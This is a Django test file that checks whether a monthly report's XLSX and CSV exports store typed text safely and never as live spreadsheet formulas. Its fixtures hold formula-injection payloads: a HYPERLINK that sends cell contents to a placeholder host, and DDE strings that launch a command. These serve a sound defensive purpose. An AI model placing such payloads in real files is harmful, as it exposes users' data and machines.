"""The monthly report's downloads carry typed text as text, never as a formula."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from layanan.supervision import exports as report_exports

pytestmark = pytest.mark.django_db

FORMULAS = {
    "address": '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "head_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "head_nip": "-2+3",
}


@pytest.fixture
def hostile_office(office):
    for field, value in FORMULAS.items():
        setattr(office, field, value)
    office.save()
    return office


def test_every_text_cell_of_the_xlsx_report_is_text_not_a_formula(client, hostile_office,
                                                                  supervisor):
    client.force_login(supervisor)
    response = client.get(reverse("layanan:report_xlsx", args=[hostile_office.code, 2024, 5]))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    assert FORMULAS["address"] in texts
    assert texts[FORMULAS["address"]].data_type == "s"
    assert any(FORMULAS["head_name"] in value for value in texts)
    assert any(FORMULAS["head_nip"] in value for value in texts)
    # Excel keeps a typed "=" as text when the cell is edited, too.
    assert texts[FORMULAS["address"]].quotePrefix
    # The quantities stay numbers.
    assert any(cell.data_type == "n" and isinstance(cell.value, int) for cell in cells)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1"])
def test_a_csv_cell_that_a_spreadsheet_would_run_is_prefixed(value):
    assert report_exports.csv_safe(value) == "'" + value
    assert report_exports.csv_safe("Saldo awal") == "Saldo awal"
    assert report_exports.csv_safe(-5) == -5


def test_the_csv_report_carries_no_cell_a_spreadsheet_would_run(client, office, supervisor,
                                                                monkeypatch):
    real_rows = report_exports.report_rows
    monkeypatch.setattr(report_exports, "report_rows", lambda report: [
        *real_rows(report), ("partner.x", "=cmd|' /C calc'!A0", "+Pinjaman", 7)])
    client.force_login(supervisor)
    response = client.get(reverse("layanan:report_csv", args=[office.code, 2024, 5]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'+Pinjaman" in cells
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert rows[-1][-1] == "7"
